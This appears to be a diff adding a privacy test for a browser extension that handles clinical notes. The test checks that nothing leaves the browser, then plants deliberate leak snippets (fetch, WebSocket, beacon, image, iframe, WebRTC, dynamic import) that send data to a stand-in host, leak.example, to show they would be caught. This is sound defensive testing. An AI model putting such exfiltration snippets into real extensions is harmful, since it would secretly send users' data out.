@@ -1,0 +1,181 @@
+// Nothing leaves the browser. The browser is told to send everything but the test's own pages to a sink (a proxy that
+// passes nothing on, and a UDP port); then the main job is done on several pages, and the sink and the server's own log
+// must show nothing that a browser without the extension does not show. Whether this would notice a leak is tried too:
+// copies of the extension with one planted must be caught.
+
+import assert from 'node:assert/strict';
+import { before, describe, test } from 'node:test';
+import { EXTENSION, start, variant } from './harness.mjs';
+import { openSink } from './sink.mjs';
+
+const PAGES = ['/', '/pages/textarea.html', '/pages/frames.html', '/strict/pages/inner.html', '/pages/no-note.html'];
+
+/** Time for what was begun to arrive. */
+const calm = (milliseconds = 1500) => new Promise((resolve) => setTimeout(resolve, milliseconds));
+
+/** The hosts that the browser itself calls, whatever it is doing. */
+const hostOf = (line) => line.split(' ')[1]?.replace(/^\w+:\/\//, '').replace(/[:/].*$/, '') ?? line;
+
+/**
+ * Opens the pages in a browser with the extension that `extension(sink)` names, or with none, does the main job on
+ * each, and gives all that left the browser, all that reached the pages' server after a page was loaded, and every
+ * request of the panel that is not for a file of its own.
+ */
+async function record({ extension, pages = PAGES, job = mainJob }) {
+  const sink = await openSink();
+  const session = await start({ extension: extension?.(sink) ?? null, args: (server) => sink.args(server) });
+  const late = [];
+  const asked = [];
+  try {
+    for (const path of pages) {
+      const page = await session.page(path);
+      await calm(300);
+      const loaded = session.server.requests.length;
+      if (extension) {
+        const panel = await session.panel(page);
+        panel.page.on('request', (request) => asked.push(request.url()));
+        await job(panel);
+      }
+      await calm();
+      late.push(...session.server.requests.slice(loaded));
+      await page.close();
+    }
+    await calm();
+  } finally {
+    await session.close();
+    await sink.close();
+  }
+  const outside = asked.filter((url) => !/^(chrome-extension:\/\/[a-p]{32}\/|data:|blob:)/.test(url));
+  return { arrived: sink.arrived, late, outside };
+}
+
+/** Everything that a reader does in the panel. */
+async function mainJob(panel) {
+  if ((await panel.settled()) !== 'findings') return;
+  await panel.open(0);
+  await panel.show(0);
+  await panel.press('w');
+  await panel.press('a');
+  await panel.press('u');
+  await panel.press('a');
+  await panel.click('label[for=setting-inpatient]');
+  await panel.settled();
+  await panel.click('#tab-accepted');
+  await panel.click('#copy');
+  await panel.says(/^Copied/);
+  await panel.click('#tab-paste');
+  await panel.page.type('#paste-text', 'Assessment: hypertension.');
+  await panel.click('#paste-scan');
+  await panel.settled();
+}
+
+/** Where a planted leak sends; `by` says which one it was. */
+const to = (by, scheme = 'http') => `${scheme}://leak.example/${by}`;
+
+/** Ways to send that work in a window and in a Worker, none of which may throw into what stands after it. */
+const ANYWHERE = {
+  fetch: `fetch('${to('fetch')}', { mode: 'no-cors', method: 'POST', body: 'note' }).catch(() => {});`,
+  socket: `try { new WebSocket('${to('socket', 'ws')}'); } catch {}`,
+  events: `try { new EventSource('${to('events')}'); } catch {}`,
+  request: `try { const r = new XMLHttpRequest(); r.open('GET', '${to('request')}'); r.send(); } catch {}`,
+};
+
+const IN_A_WINDOW = {
+  ...ANYWHERE,
+  beacon: `try { navigator.sendBeacon('${to('beacon')}', 'note'); } catch {}`,
+  image: `try { new Image().src = '${to('image')}'; } catch {}`,
+  frame: `try { document.body.append(Object.assign(document.createElement('iframe'), { src: '${to('frame')}' })); } catch {}`,
+  style: `try { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${to('style')}' })); } catch {}`,
+};
+
+const NEW_TAB = `chrome.tabs.create({ url: '${to('tab')}', active: false });`;
+const NEW_WINDOW = `try { window.open('${to('window')}'); } catch {}`;
+const webRtc = (port) => `try {
+  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
+  peer.createDataChannel('note');
+  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+} catch {}`;
+
+const all = (leaks) => Object.values(leaks).join('\n');
+
+const inContent = (leaks) => (_file, edit) => edit('content/read.js', (text) => `${leaks}\n${text}`);
+const inPanel = (leaks) => (_file, edit) => edit('panel/panel.js', (text) => `${text}\n${leaks}\n`);
+const inWorker = (leaks) => (_file, edit) => edit('panel/engine-worker.js', (text) => `${leaks}\n${text}`);
+const withoutPolicy = (_file, edit) => {
+  edit('panel/panel.html', (text) => text.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
+  edit('manifest.json', (text) => {
+    const manifest = JSON.parse(text);
+    manifest.content_security_policy.extension_pages = "script-src 'self' 'wasm-unsafe-eval'";
+    return JSON.stringify(manifest);
+  });
+};
+const withoutLockdown = (_file, edit) => edit('panel/panel.html', (text) => text.replace('<script src="lockdown.js"></script>', ''));
+
+/** Runs a changed copy of the extension on one page. `changes(sink)` gives what is changed in it. */
+async function recordChanged(changes, job = () => calm(3000)) {
+  let copy;
+  const extension = (sink) => {
+    copy = variant((file, edit) => changes(sink).forEach((change) => change(file, edit)));
+    return copy.folder;
+  };
+  try {
+    return await record({ extension, pages: ['/pages/textarea.html'], job });
+  } finally {
+    copy?.remove();
+  }
+}
+
+describe('what leaves the browser', { timeout: 600_000 }, () => {
+  let usual;
+  before(async () => {
+    const { arrived } = await record({});
+    usual = new Set(arrived.map(hostOf));
+  });
+
+  /** What a browser without the extension does not send. */
+  const foreign = (arrived) => arrived.filter((line) => !usual.has(hostOf(line)));
+  /** Which of the planted leaks have arrived. */
+  const caught = (arrived, leaks) => Object.keys(leaks).filter((by) => arrived.some((line) => line.includes(`leak.example/${by}`)));
+  /** A WebSocket through a proxy asks for a tunnel: its line has the host only. */
+  const byPath = (leaks) => Object.fromEntries(Object.entries(leaks).filter(([by]) => by !== 'socket'));
+  const TUNNEL = /^CONNECT leak\.example:80/;
+
+  test('the whole of the main job, on every kind of page: nothing', async () => {
+    const { arrived, late, outside } = await record({ extension: () => EXTENSION });
+    assert.deepEqual(foreign(arrived), []);
+    assert.deepEqual(late, []);
+    assert.deepEqual(outside, []);
+  });
+
+  test('this would notice: every leak planted in the content script, which no policy binds', async () => {
+    const own = `fetch('/stolen?hypertension').catch(() => {});`;
+    const { arrived, late } = await recordChanged(() => [inContent(all(IN_A_WINDOW) + own)]);
+    assert.deepEqual(caught(arrived, byPath(IN_A_WINDOW)), Object.keys(byPath(IN_A_WINDOW)));
+    assert.ok(arrived.some((line) => TUNNEL.test(line)), 'the WebSocket');
+    assert.ok(late.some((line) => line.includes('/stolen')), "the request to the page's own server");
+  });
+
+  test('this would notice: every leak planted in the panel and in the Worker, once their protection is taken away', async () => {
+    const { arrived, outside } = await recordChanged((sink) => [
+      inPanel(all(IN_A_WINDOW) + NEW_TAB + NEW_WINDOW + webRtc(sink.udpPort)),
+      withoutPolicy,
+      withoutLockdown,
+    ]);
+    const leaks = { ...byPath(IN_A_WINDOW), tab: NEW_TAB, window: NEW_WINDOW };
+    assert.deepEqual(caught(arrived, leaks), Object.keys(leaks));
+    assert.ok(arrived.some((line) => TUNNEL.test(line)), 'the WebSocket');
+    assert.ok(arrived.some((line) => line.startsWith('UDP')), 'WebRTC');
+    assert.ok(outside.length > 0, "the panel's own requests");
+
+    const worker = await recordChanged(() => [inWorker(all(ANYWHERE)), withoutPolicy]);
+    assert.deepEqual(caught(worker.arrived, byPath(ANYWHERE)), Object.keys(byPath(ANYWHERE)));
+  });
+
+  test('the same, planted in the panel and in the Worker as they ship: the browser lets none out', async () => {
+    const { arrived } = await recordChanged((sink) => [
+      inPanel(all(IN_A_WINDOW) + NEW_WINDOW + webRtc(sink.udpPort)),
+      inWorker(`${all(ANYWHERE)} import('${to('import')}').catch(() => {});`),
+    ], async (panel) => assert.equal(await panel.settled(), 'findings', 'all of it ran'));
+    assert.deepEqual(foreign(arrived), []);
+  });
+});
